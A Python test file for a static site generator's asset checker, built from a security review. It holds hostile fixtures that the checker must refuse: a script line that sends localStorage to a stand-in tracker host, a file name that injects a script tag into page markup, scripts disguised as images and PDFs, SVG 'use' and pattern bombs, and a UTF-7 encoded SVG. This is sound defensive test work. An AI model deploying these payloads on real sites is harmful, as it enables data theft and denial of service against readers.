"""Files in content/assets/ are published as they are, so each must be what its name says,
under a name that is safe in any page, and an SVG image must be cheap to draw.

The hostile corpus of assets: each case is refused by `python -m generator check` with one
line naming the file, no traceback, within five seconds (tests/support/hostile.py). These
came from a review of the built site as an attacker would find it:

1. A logo's file name became markup on every page (theme/partials/logo.html wrote it
   unescaped): a logo at ``assets/x"><script src="assets/p.pdf"></script><i data-x=".png``
   and a script saved as ``p.pdf`` ran in every reader's browser, CSP or not.
2. Files were not what their names said: a ``.png`` that is a web page and a ``.pdf`` that is
   a script were published as they were.
3. An SVG ``<use>`` bomb (1.6 KB, eight levels of ten ``<use>``) passed the SVG check; the
   PDF worker ran until killed, and the page never loaded in Chromium.
4. An SVG declared ``encoding="utf-7"`` stopped the check with a traceback.
"""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from generator.content_assets import ASSET_NAME_RULE
from generator.svg import svg_problem
from generator.svg_copies import MAX_DRAWN

from .support.hostile import (
    ASSETS,
    SITE,
    Hostile,
    add_file,
    assert_refused_in_one_line,
    both,
    logo,
    run_check,
    set_logo,
)
from .support.sites import build_site
from .test_validation_errors import copy_fixture

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
SCRIPT = "fetch('https://tracker.example/?' + JSON.stringify(localStorage))\n"
WEB_PAGE = "<!doctype html><script>" + SCRIPT + "</script>"

HOSTILE_NAME = 'x"><script src="assets/p.pdf"></script><i data-x=".png'
"""The logo of finding 1: folders and a file whose names end the ``src`` attribute."""
MARKUP = """'"', '>', '<', a space, '='"""
"""The characters of that name that no name may hold, in the order they come."""
QUOTE = """'"'"""
APOSTROPHE = '"\'"'
PERCENT_AND_HASH = "'%', '#'"
UTF_7, BOGUS, LATIN_1 = "'utf-7'", "'bogus'", "'ISO-8859-1'"

TEXT = "it holds text (a web page, a script or the like)"
SVG_ENCODING = (
    "an SVG image must be UTF-8 text (or UTF-16 with a byte order mark); this one says it is"
    " {}: save it with UTF-8 encoding"
)
DRAWN = (
    f"draws more than {MAX_DRAWN:,} elements, counting each copy that a <use> draws (or a"
    " url(#…) naming a pattern, marker, mask or clip path): an SVG image may draw at most"
    f" {MAX_DRAWN:,}; unlink the clones in your editor, or simplify the image"
)
CYCLE = (
    "names a part of the image that holds it, or leads back to it: browsers draw nothing there"
    " and some programs never stop; name another part"
)


def name_refused(characters: str) -> str:
    return f"name not allowed: it holds {characters}; {ASSET_NAME_RULE}"


def use_bomb(levels: int = 8, copies: int = 10) -> str:
    """The bomb of finding 3: each level a group of ``copies`` uses of the level below."""
    lines = [
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">',
        '<defs><path id="a0" d="M0 0h1v1z"/>',
        *(
            f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * copies + "</g>"
            for level in range(1, levels + 1)
        ),
        f'</defs><use href="#a{levels}"/></svg>',
    ]
    return "\n".join(lines)


CORPUS = [
    # 1. Names that would be markup where a page shows the file.
    Hostile(
        "asset-name-that-ends-an-attribute",
        add_file(f"{ASSETS}/{HOSTILE_NAME}", PNG),
        f"{ASSETS}/{HOSTILE_NAME}: {name_refused(MARKUP)}",
    ),
    Hostile(
        "logo-named-with-markup-that-is-not-there",
        set_logo('a"b.png'),
        f"{SITE}:5: logo: {name_refused(QUOTE)}",
    ),
    Hostile(
        "asset-name-with-a-space",
        add_file(f"{ASSETS}/Trust logo.png", PNG),
        f"{ASSETS}/Trust logo.png: {name_refused('a space')}",
    ),
    Hostile(
        "asset-name-with-a-percent-and-a-hash",
        add_file(f"{ASSETS}/50%#.png", PNG),
        f"{ASSETS}/50%#.png: {name_refused(PERCENT_AND_HASH)}",
    ),
    Hostile(
        "asset-folder-named-with-quotes",
        add_file(f"{ASSETS}/it's/chart.png", PNG),
        f"{ASSETS}/it's/chart.png: {name_refused(APOSTROPHE)}",
    ),
    # 1 and 2. Files that are not what their names say.
    Hostile(
        "pdf-that-is-a-script",
        add_file(f"{ASSETS}/p.pdf", SCRIPT),
        f"{ASSETS}/p.pdf: not a PDF: {TEXT}; save it again as PDF",
    ),
    Hostile(
        "png-that-is-a-web-page",
        add_file(f"{ASSETS}/chart.png", WEB_PAGE),
        f"{ASSETS}/chart.png: not a PNG image: {TEXT}; save it again as PNG",
    ),
    Hostile(
        "logo-that-is-a-web-page",
        logo("logo.png", WEB_PAGE),
        f"{ASSETS}/logo.png: not a PNG image: {TEXT}; save it again as PNG",
    ),
    Hostile(
        "jpeg-that-is-a-png",
        add_file(f"{ASSETS}/photo.jpg", PNG),
        f"{ASSETS}/photo.jpg: not a JPEG image: it holds a PNG image; name it photo.png",
    ),
    Hostile(
        "gif-that-is-a-script",
        add_file(f"{ASSETS}/a.gif", "GIF=1;" + SCRIPT),
        f"{ASSETS}/a.gif: not a GIF image: {TEXT}; save it again as GIF",
    ),
    Hostile(
        "webp-of-unknown-bytes",
        add_file(f"{ASSETS}/a.webp", b"RIFF\x00\x00\x00\x00WAVEfmt \x00\xff"),
        f"{ASSETS}/a.webp: not a WebP image: its first bytes are not a WebP image's;"
        " save it again as WebP",
    ),
    Hostile(
        "empty-pdf",
        add_file(f"{ASSETS}/empty.pdf", b""),
        f"{ASSETS}/empty.pdf: not a PDF: the file is empty; save it again as PDF",
    ),
    Hostile(
        "svg-that-is-a-png",
        add_file(f"{ASSETS}/logo.svg", PNG),
        f"{ASSETS}/logo.svg: not an SVG image: it holds a PNG image; name it logo.png",
    ),
    Hostile(
        "svg-that-is-a-web-page",
        add_file(f"{ASSETS}/logo.svg", WEB_PAGE),
        f"{ASSETS}/logo.svg:1: not a readable SVG image: syntax error (column 1); save it"
        " again as plain SVG",
    ),
    # 3. Drawings that never finish.
    Hostile(
        "svg-use-bomb",
        add_file(f"{ASSETS}/bomb.svg", use_bomb()),
        f"{ASSETS}/bomb.svg:7: <g>: {DRAWN}",
    ),
    Hostile(
        "svg-pattern-bomb",
        add_file(
            f"{ASSETS}/bomb.svg",
            SVG.format(
                "\n<defs><pattern id='p0'><rect width='1' height='1'/></pattern>"
                + "".join(
                    f"\n<pattern id='p{n}'>" + f"<rect fill='url(#p{n - 1})'/>" * 10 + "</pattern>"
                    for n in range(1, 9)
                )
                + "</defs>\n<rect fill='url(#p8)'/>"
            ),
        ),
        f"{ASSETS}/bomb.svg:7: <pattern>: {DRAWN}",
    ),
    Hostile(
        "svg-use-of-its-own-group",
        add_file(f"{ASSETS}/loop.svg", SVG.format('\n<g id="a">\n<use href="#a"/></g>')),
        f"{ASSETS}/loop.svg:3: <use href>: '#a' {CYCLE}",
    ),
    Hostile(
        "svg-uses-that-name-each-other",
        add_file(
            f"{ASSETS}/loop.svg",
            SVG.format(
                '<defs><g id="a"><use href="#b"/></g>\n<g id="b"><use href="#a"/></g></defs>'
            ),
        ),
        f"{ASSETS}/loop.svg:2: <use href>: '#a' {CYCLE}",
    ),
    # 4. Encodings the check and a browser could read differently.
    Hostile(
        "svg-in-utf-7",
        add_file(
            f"{ASSETS}/u.svg",
            '<?xml version="1.0" encoding="utf-7"?>\n' + SVG.format("<text>+ADw-x+AD4-</text>"),
        ),
        f"{ASSETS}/u.svg:1: {SVG_ENCODING.format(UTF_7)}",
    ),
    Hostile(
        "svg-in-an-encoding-nobody-knows",
        add_file(f"{ASSETS}/u.svg", '<?xml version="1.0" encoding="bogus"?>' + SVG.format("")),
        f"{ASSETS}/u.svg:1: {SVG_ENCODING.format(BOGUS)}",
    ),
    Hostile(
        "svg-in-latin-1-that-says-so",
        add_file(
            f"{ASSETS}/u.svg",
            b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
            + SVG.format("<text>caf\xe9</text>").encode("latin-1"),
        ),
        f"{ASSETS}/u.svg:1: {SVG_ENCODING.format(LATIN_1)}",
    ),
    Hostile(
        "svg-not-in-utf-8",
        add_file(f"{ASSETS}/u.svg", ("\n" + SVG.format("<text>caf\xe9</text>")).encode("latin-1")),
        f"{ASSETS}/u.svg:2: not UTF-8 text: byte 0xe9 cannot be read; save the image with UTF-8"
        " encoding",
    ),
    Hostile(
        "svg-in-utf-16-without-a-byte-order-mark",
        add_file(f"{ASSETS}/u.svg", SVG.format("").encode("utf-16-le")),
        f"{ASSETS}/u.svg:1: not UTF-8 text: it holds a NUL byte (UTF-16 saved without a byte"
        " order mark?); save the image with UTF-8 encoding",
    ),
]


def test_each_finding_is_in_the_corpus() -> None:
    names = {each.name for each in CORPUS}
    assert len(names) == len(CORPUS)
    findings = {
        "asset-name-that-ends-an-attribute",
        "pdf-that-is-a-script",
        "png-that-is-a-web-page",
        "svg-use-bomb",
        "svg-in-utf-7",
    }
    assert findings <= names


def test_the_use_bomb_is_the_one_found() -> None:
    """1.6 KB, eight levels of ten: 10^8 copies of one path."""
    assert 1500 < len(use_bomb().encode()) < 1700
    assert use_bomb().count("<use") == 81


@pytest.mark.parametrize("hostile", CORPUS, ids=lambda each: each.name)
def test_the_check_refuses_it_with_one_line(hostile: Hostile, tmp_path: Path) -> None:
    root = copy_fixture(tmp_path)
    hostile.change(root)
    assert_refused_in_one_line(root, hostile.expected)


PDF_SCRIPT = f"{ASSETS}/p.pdf: not a PDF: {TEXT}; save it again as PDF"
LOGO_NAME = f"{ASSETS}/{HOSTILE_NAME}: {name_refused(MARKUP)}"
LOGO_SETTING = f"{SITE}:5: logo: {name_refused(MARKUP)}"


def test_the_logo_that_ran_a_script_is_refused_by_the_check_and_the_build(
    tmp_path: Path,
) -> None:
    """Finding 1 whole: the logo named with markup, and the script saved as a PDF."""
    root = copy_fixture(tmp_path)
    both(logo(HOSTILE_NAME, PNG), add_file(f"{ASSETS}/p.pdf", SCRIPT))(root)
    result, seconds = run_check(root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        PDF_SCRIPT,
        LOGO_NAME,
        LOGO_SETTING,
        "3 content errors found.",
    ]
    assert seconds < 5
    start = time.perf_counter()
    built = build_site(root, tmp_path / "site", check=False)
    assert built.returncode == 1
    assert "Traceback" not in built.stderr
    errors = re.findall(r"^ERROR +- +(.*)$", built.stderr, re.MULTILINE)
    assert errors[:3] == [f"toolkit/{line}" for line in (PDF_SCRIPT, LOGO_NAME, LOGO_SETTING)]
    assert not (tmp_path / "site").exists()
    assert time.perf_counter() - start < 30


GOOD_ASSETS: dict[str, str | bytes] = {
    "chart.png": PNG,
    "photo.jpg": JPEG,
    "Photo_2.JPEG": JPEG,
    "anim.gif": GIF,
    "modern.webp": WEBP,
    "leaflets/guide-v2.1.pdf": PDF,
    "logo.svg": SVG.format('<rect width="9" height="9"/>'),
    "bom.svg": "\ufeff" + SVG.format(""),
    "utf16.svg": ('<?xml version="1.0" encoding="UTF-16"?>' + SVG.format("")).encode("utf-16"),
    "declared.svg": '<?xml version="1.0" encoding="utf-8"?>' + SVG.format(""),
    "clones.svg": use_bomb(levels=3, copies=10),
}


def test_assets_that_are_what_they_say_pass(tmp_path: Path) -> None:
    root = copy_fixture(tmp_path)
    for name, content in GOOD_ASSETS.items():
        add_file(f"{ASSETS}/{name}", content)(root)
    result, _ = run_check(root)
    assert result.returncode == 0, result.stderr


def test_many_copies_under_the_limit_pass(tmp_path: Path) -> None:
    """Nested clones are fine while what they draw stays under the limit."""
    path = tmp_path / "clones.svg"
    path.write_text(use_bomb(levels=4, copies=10), encoding="utf-8")  # 10^4 copies
    start = time.perf_counter()
    assert svg_problem(path) is None
    assert time.perf_counter() - start < 1
